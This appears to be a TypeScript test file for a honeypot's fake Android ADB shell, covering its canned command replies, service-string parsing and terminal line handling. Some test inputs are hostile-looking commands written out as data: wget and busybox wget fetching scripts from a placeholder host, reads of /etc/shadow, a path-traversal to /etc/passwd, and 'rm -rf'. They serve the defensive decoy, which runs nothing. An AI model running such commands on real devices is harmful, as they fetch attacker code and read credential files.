import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { exitStatus, fakeEntry, fakeShell, parseShellService, runFakeShell, TTY_LINE_MAX, ttyInput } from './adb-shell.ts';

describe('the fake device shell', () => {
  it('should answer the usual probes and run nothing', () => {
    assert.match(fakeShell('id'), /^uid=2000\(shell\)/);
    assert.equal(fakeShell('echo hello  world'), 'hello world\n');
    assert.equal(fakeShell('getprop ro.product.model'), 'SM-G960F\n');
    assert.match(fakeShell('ls /'), /\nsystem\n/);
    assert.deepEqual(runFakeShell('wget http://x/y.sh'), { stdout: '', stderr: '/system/bin/sh: wget: not found\n', code: 127 });
    assert.equal(fakeShell('   '), '');
    assert.match(fakeShell('cat /system/build.prop'), /^ro\.product\.model=SM-G960F$/m);
    assert.deepEqual(runFakeShell('cat /etc/shadow'), { stdout: '', stderr: 'cat: /etc/shadow: No such file or directory\n', code: 1 });
  });

  it('should answer a command list as far as the shell would run it, and the first command of a pipeline', () => {
    assert.deepEqual(runFakeShell('cd /data/local/tmp; busybox wget http://198.51.100.9/x || echo no && echo yes'), {
      stdout: 'no\nyes\n',
      stderr: '/system/bin/sh: busybox: not found\n',
      code: 0,
    });
    assert.equal(runFakeShell('false && echo never').stdout, '');
    assert.equal(fakeShell('echo a | sh'), 'a\n');
    assert.deepEqual([exitStatus('exit'), exitStatus(' exit 3 '), exitStatus('exit 300'), exitStatus('exits')], [0, 3, 44, undefined]);
  });

  it("should know its few files and directories, and nothing of the sensor's own disk", () => {
    assert.equal(fakeEntry('/system//build.prop/')?.type, 'file');
    assert.equal(fakeEntry('/data/local/tmp')?.type, 'dir');
    assert.equal(fakeEntry('/vendor')?.type, 'dir');
    assert.equal(fakeEntry('/etc/passwd'), undefined);
    assert.equal(fakeEntry('/../../etc/passwd'), undefined);
  });
});

describe('the shell service string', () => {
  it("should tell the shell protocol and the pty from the arguments, with adbd's defaults", () => {
    assert.deepEqual(parseShellService('shell:'), { v2: false, pty: true, command: '' });
    assert.deepEqual(parseShellService('shell:id'), { v2: false, pty: false, command: 'id' });
    assert.deepEqual(parseShellService('shell,v2,TERM=xterm-256color,pty:'), { v2: true, pty: true, command: '' });
    assert.deepEqual(parseShellService('shell,v2,raw:'), { v2: true, pty: false, command: '' });
    assert.deepEqual(parseShellService('shell,v2,pty:ls:x'), { v2: true, pty: true, command: 'ls:x' });
    assert.deepEqual(parseShellService('exec:cmd package list'), { v2: false, pty: false, command: 'cmd package list' });
    assert.equal(parseShellService('reboot:'), undefined);
  });
});

describe('the pty line discipline', () => {
  it('should echo each byte as typed and end a line at CR, with erase, kill and interrupt', () => {
    const state = { line: [] as number[] };
    // Typed one key at a time, as the adb client sends them from a terminal in raw mode.
    const typed = [...'idd\x7f\r'].flatMap((c) => ttyInput(state, Buffer.from(c)));
    const echo = Buffer.concat(typed.flatMap((e) => (e.kind === 'echo' ? [e.bytes] : []))).toString('latin1');
    assert.equal(echo, 'idd\b \b\r\n');
    assert.deepEqual(
      typed.filter((e) => e.kind === 'line').map((e) => (e.kind === 'line' ? e.bytes.toString() : '')),
      ['id'],
    );
    assert.deepEqual(ttyInput(state, Buffer.from('rm -rf\x03')), [
      { kind: 'echo', bytes: Buffer.from('rm -rf^C\r\n') },
      { kind: 'interrupt' },
    ]);
    assert.deepEqual(ttyInput(state, Buffer.from('ab\x15ls\n')).at(-1), { kind: 'line', bytes: Buffer.from('ls') });
    assert.deepEqual(
      ttyInput(state, Buffer.from('x\x04')),
      [{ kind: 'echo', bytes: Buffer.from('x') }],
      '^D ends input only on an empty line',
    );
    state.line = [];
    assert.deepEqual(ttyInput(state, Buffer.from('\x04id\r')), [{ kind: 'eof' }]);
  });

  it('should keep raw bytes (UTF-8, control bytes) and drop what passes the line limit', () => {
    const state = { line: [] as number[] };
    const events = ttyInput(state, Buffer.concat([Buffer.from('echo é\x1b'), Buffer.alloc(5000, 0x41), Buffer.from('\r')]));
    const line = events.find((e) => e.kind === 'line');
    assert.ok(line?.kind === 'line');
    assert.equal(line.bytes.length, TTY_LINE_MAX);
    assert.equal(line.bytes.subarray(0, 8).toString('utf8'), 'echo é\x1b');
  });
});
